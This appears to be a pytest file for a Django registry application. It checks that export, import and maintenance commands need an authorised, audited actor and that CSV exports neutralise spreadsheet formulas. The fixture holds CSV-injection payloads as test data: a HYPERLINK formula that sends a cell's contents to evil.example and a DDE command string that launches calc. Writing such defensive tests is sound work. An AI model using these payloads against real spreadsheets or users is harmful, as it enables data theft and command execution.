"""Issue 13 (medium 6) and issue 9 (low, CSV injection): commands that read or change
protected data are audited under a named actor (``--as``, checked for the right role), and
every CSV the project writes is formula-safe."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.db import transaction

from apps.accounts.roles import AUDITOR, FACILITY_ADMIN, INVESTIGATOR
from apps.audit import signing
from apps.audit.chain import audit_seal_pending
from apps.audit.export_verify import verify_export
from apps.audit.exports import audit_export_build, export_path
from apps.audit.models import AuditEvent, AuditExport
from apps.audit.services import record_event
from apps.facilities.models import Facility
from apps.registry.models import Attorney, ExemptNumber
from tests.actors import actor, grant_facility
from tests.conftest import wipe_registry
from tests.factories import AttorneyFactory, ExemptNumberFactory, UserFactory

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def hostile_registration() -> ExemptNumber:
    attorney: Attorney = AttorneyFactory(
        user=UserFactory(username="mallory"), full_name=FORMULA, firm="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    return ExemptNumberFactory(attorney=attorney, number="+12125550188", label="-2+3")


def test_registry_export_without_an_actor_is_refused(hostile_registration: ExemptNumber) -> None:
    with pytest.raises(CommandError) as caught:
        call_command("registry_export", stdout=io.StringIO())
    assert "--as" in str(caught.value)


def test_registry_export_by_someone_who_is_not_a_clerk_is_refused(hostile_registration: ExemptNumber) -> None:
    investigator = actor("nosy", INVESTIGATOR).user
    with pytest.raises(CommandError) as caught:
        call_command("registry_export", "--as", investigator.username, stdout=io.StringIO())
    assert "registry clerk" in str(caught.value)
    assert not AuditEvent.objects.filter(action="registry.exported").exists()


def test_registry_export_is_audited_and_formula_safe(hostile_registration: ExemptNumber, clerk: Any) -> None:
    out = io.StringIO()
    call_command("registry_export", "--as", clerk.username, stdout=out)
    event = AuditEvent.objects.get(action="registry.exported")
    assert event.actor == clerk and event.details["rows"] == 1 and event.details["format"] == "csv"
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    for name in ("attorney_name", "firm", "label", "number"):
        assert row[name][0] not in "=+-@", (name, row[name])
    assert row["attorney_name"] == "'" + FORMULA


def test_a_formula_safe_registry_export_imports_back_unchanged(
    hostile_registration: ExemptNumber, clerk: Any, tmp_path: Path
) -> None:
    path = tmp_path / "registry.csv"
    call_command("registry_export", "--as", clerk.username, "-o", str(path))
    wipe_registry()
    call_command("registry_import", str(path), "--as", clerk.username, stdout=io.StringIO())
    # The import waits for a second registry clerk (issue 11).
    from apps.accounts.roles import REGISTRY_CLERK, ensure_role_groups
    from apps.registry.models import BulkChange
    from tests.factories import UserFactory

    second = UserFactory(username="clerk-2")
    second.groups.add(ensure_role_groups()[REGISTRY_CLERK])
    change = BulkChange.objects.get(status="pending")
    from apps.registry.bulk import bulk_change_digest

    # The second clerk approves the change as listed (``registry_bulk list`` shows its digest).
    digest = bulk_change_digest(change)
    call_command(
        "registry_bulk",
        "approve",
        str(change.pk),
        "--digest",
        digest,
        "--as",
        second.username,
        stdout=io.StringIO(),
    )
    imported = ExemptNumber.objects.select_related("attorney").get()
    assert imported.number == "+12125550188" and imported.label == "-2+3"
    assert imported.attorney.full_name == FORMULA


def test_the_audit_exports_events_csv_is_formula_safe_and_the_export_still_verifies(
    settings: Any, tmp_path: Path
) -> None:
    settings.AUDIT_EXPORT_DIR = tmp_path / "exports"
    with transaction.atomic():
        record_event(action="test.hostile", target_type="x", target_id="=1+2")
    audit_seal_pending()
    export = AuditExport.objects.create(requested_by=actor("auditor", AUDITOR).user, filters={})
    audit_export_build(export_id=export.pk)
    export.refresh_from_db()
    with zipfile.ZipFile(export_path(export)) as zf:
        rows = list(csv.DictReader(io.StringIO(zf.read("events.csv").decode())))
    assert rows[0]["target_id"] == "'=1+2"
    assert verify_export(export_path(export), trusted_keys=[signing.public_key_bytes()]).ok


def test_plant_canaries_needs_an_actor_who_manages_the_facility(facility: Facility) -> None:
    with pytest.raises(CommandError):
        call_command("plant_canaries", facility.code, stdout=io.StringIO())
    outsider = actor("outsider", FACILITY_ADMIN).user
    with pytest.raises(CommandError):
        call_command("plant_canaries", facility.code, "--as", outsider.username, stdout=io.StringIO())
    admin = actor("admin", FACILITY_ADMIN).user
    grant_facility(admin, facility, "view_facility", "manage_facility")
    call_command(
        "plant_canaries", facility.code, "--as", admin.username, "--count", "1", stdout=io.StringIO()
    )
    event = AuditEvent.objects.get(action="command.run", actor=admin)
    assert event.details["command"] == "plant_canaries" and event.facility_id == facility.pk


def test_reconcile_storage_needs_an_actor_and_is_audited() -> None:
    with pytest.raises(CommandError):
        call_command("reconcile_storage", "--dry-run", stdout=io.StringIO())
    with pytest.raises(CommandError):
        call_command("reconcile_storage", "--dry-run", "--as", actor("inv", INVESTIGATOR).user.username)
    operator = UserFactory(username="operator", is_superuser=True, is_staff=True)
    call_command("reconcile_storage", "--dry-run", "--as", operator.username, stdout=io.StringIO())
    event = AuditEvent.objects.get(action="command.run", actor=operator)
    assert event.details["command"] == "reconcile_storage" and event.details["dry_run"] is True


def test_an_unknown_or_inactive_actor_is_refused_with_a_clear_error(clerk: Any) -> None:
    with pytest.raises(CommandError) as caught:
        call_command("registry_export", "--as", "nobody", stdout=io.StringIO())
    assert "no active user" in str(caught.value)
    clerk.is_active = False
    clerk.save()
    with pytest.raises(CommandError):
        call_command("registry_export", "--as", clerk.username, stdout=io.StringIO())
